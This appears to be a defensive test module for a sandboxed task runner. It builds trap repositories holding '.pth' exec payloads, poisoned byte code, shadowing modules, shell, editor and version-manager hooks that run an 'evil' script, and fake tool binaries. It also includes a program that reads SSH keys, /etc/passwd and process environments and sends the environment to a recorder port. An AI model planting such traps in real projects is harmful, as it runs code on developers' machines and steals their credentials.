"""Traps for the host's own Python, and for shells, editors and managers of versions around it."""

from __future__ import annotations

import py_compile
import sys
import tempfile
from pathlib import Path

from repositories.making import PYTHON, TYPESCRIPT, Repository, python_payload, trap


@trap("tasks", "explain", "run", "build", "trace", "stat")
def modules_of_the_host_beside_the_source(made: Repository) -> None:
    """Modules with the names of ours and of what we import, where an import could look first."""
    made.write("main.py", PYTHON)
    for name in (
        "capsule",
        "capsule_cache",
        "pluggy",
        "wasmtime",
        "cyclopts",
        "json",
        "platformdirs",
        "sqlite3",
    ):
        made.python(f"{name}.py")
    for name in ("capsule_python", "capsule_js", "xxhash"):
        made.python(f"{name}/__init__.py")


@trap("tasks", "run", "stat")
def customize_modules(made: Repository) -> None:
    """What a Python runs by itself when it starts."""
    made.write("main.py", PYTHON)
    for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "setup.py", "__main__.py", "site.py"):
        made.python(name)


@trap("tasks", "run")
def a_virtual_environment_in_the_repository(made: Repository) -> None:
    """With a `.pth` file that runs code, and programs of its own."""
    made.write("main.py", PYTHON)
    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
    for folder in ("venv", ".venv"):
        made.write(f"{folder}/pyvenv.cfg", f"home = /usr/bin\nversion = {sys.version.split()[0]}\n")
        made.script(f"{folder}/bin/python")
        made.script(f"{folder}/bin/pip")
        made.script(f"{folder}/bin/uv")
        payload = python_payload(made.operator)
        made.write(f"{folder}/lib/{version}/site-packages/evil.pth", f"import os; exec({payload!r})\n")


@trap("tasks", "run")
def pth_files_beside_the_source(made: Repository) -> None:
    """In case that a folder of the repository becomes a site."""
    made.write("main.py", PYTHON)
    for folder in ("", "src/", "lib/", ".capsule/"):
        made.write(f"{folder}evil.pth", f"import os; exec({python_payload(made.operator)!r})\n")


@trap("tasks", "run", "stat")
def plugins_in_the_working_folder(made: Repository) -> None:
    """Metadata of a distribution that says it is a frontend, where an import could find it."""
    made.write("main.py", PYTHON)
    made.python("evil_plugin.py")
    for name in ("evil-1.0.dist-info", "evil.egg-info"):
        made.write(f"{name}/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
        made.write(f"{name}/PKG-INFO", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
        for group in ("capsule.frontends", "capsule", "capsule_frontend", "pytest11"):
            made.write(f"{name}/entry_points.txt", f"[{group}]\nevil = evil_plugin\n")


@trap("tasks", "run")
def poisoned_byte_code(made: Repository) -> None:
    """Byte code beside sources, which claims to be theirs and of any time."""
    made.write("main.py", "import helper\n" + PYTHON)
    made.write("helper.py", "")
    with tempfile.TemporaryDirectory() as folder:
        source = Path(folder, "evil.py")
        source.write_text(python_payload(made.operator))
        kept = Path(folder, "evil.pyc")
        mode = py_compile.PycInvalidationMode.UNCHECKED_HASH
        py_compile.compile(str(source), cfile=str(kept), invalidation_mode=mode)
        for name in ("helper", "main", "capsule", "pluggy"):
            made.write(f"__pycache__/{name}.{sys.implementation.cache_tag}.pyc", kept.read_bytes())
            made.write(f"{name}.pyc", kept.read_bytes())


@trap("tasks", "run", "affected")
def files_that_shells_and_editors_run(made: Repository) -> None:
    """`.envrc`, managers of versions, tasks of editors, hooks: all name a program."""
    made.workspace()
    made.write("main.py", PYTHON)
    evil = made.script("evil")
    for name in (".envrc", ".bashrc", ".profile", ".zshenv", ".autoenv.zsh"):
        made.write(name, f"{evil}\n")
    made.write(".python-version", f"{evil}\n")
    made.write(".node-version", "../../evil\n")
    made.write(".nvmrc", f"{evil}\n")
    made.write(".tool-versions", f"python path:{made.root}\nnodejs path:{made.root}\n")
    made.write("mise.toml", f'[hooks]\nenter = "{evil}"\n[env]\n_.source = "{evil}"\n')
    made.write(
        ".vscode/settings.json",
        f'{{"python.defaultInterpreterPath": "{evil}", "typescript.tsdk": ".", "git.path": "{evil}"}}\n',
    )
    made.write(".vscode/tasks.json", f'{{"tasks": [{{"command": "{evil}", "runOn": "folderOpen"}}]}}\n')
    made.write(".pre-commit-config.yaml", f"repos: [{{repo: local, hooks: [{{id: x, entry: {evil}}}]}}]\n")
    made.write("Makefile", f"all:\n\t{evil}\n")


@trap("tasks", "run", "affected", file="main.ts")
def tools_in_the_working_folder(made: Repository) -> None:
    """Programs with the names of all tools that are ever run, in the places where one would look."""
    made.workspace()
    made.write("capsule.toml", '[workspace]\nmembers = ["*/main.wat", "main.ts"]\n')
    made.write("main.ts", TYPESCRIPT)
    for folder in ("", "bin/", "node_modules/.bin/"):
        for name in (
            "git",
            "node",
            "npm",
            "npx",
            "tsc",
            "tsgo",
            "esbuild",
            "uv",
            "pip",
            "python",
            "zig",
            "cc",
        ):
            made.script(folder + name)


@trap("run", "explain", "tasks")
def values_copied_from_the_operator(made: Repository) -> None:
    """A `.env` that copies variables of the operator's into those that a task may read."""
    names = ("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "OPENAI_API_KEY")
    made.write(".env", "".join(f"COPY_{name}=${{{name}}}\nAGAIN_{name}=$(echo ${name})\n" for name in names))
    listed = [f"{prefix}_{name}" for prefix in ("COPY", "AGAIN") for name in names]
    made.write("capsule.toml", f"[tasks]\ndefault_env_variables = {[*listed, *names]}\n".replace("'", '"'))
    made.write(
        "main.py",
        "import os\nfrom capsule import task\n"
        f'@task(name="main", env_variables={[*listed, *names]})\ndef main():\n    return dict(os.environ)\n',
    )


@trap("tasks", "run")
def requests_for_everything(made: Repository) -> None:
    """A program that asks for all folders, hosts and variables, and uses them at once, also as it loads."""
    port = made.operator.recorder.port
    made.write("capsule.toml", '[tasks]\ndefault_allowed_hosts = ["*"]\n')
    made.write(
        "main.py",
        f"""\
        import os
        from capsule import task
        from capsule import http

        def attempt():
            for path in ("{made.operator.home}/.ssh/id_rsa", "/etc/passwd", "/proc/1/environ"):
                try:
                    print(open(path).read())
                except Exception:
                    pass
            try:
                http.get("http://127.0.0.1:{port}/" + repr(dict(os.environ)))
            except Exception:
                pass

        attempt()

        @task(name="main", allowed_files=["."], allowed_hosts=["*"], env_variables=["GITHUB_TOKEN"])
        def main():
            attempt()
            return 1
        """,
    )
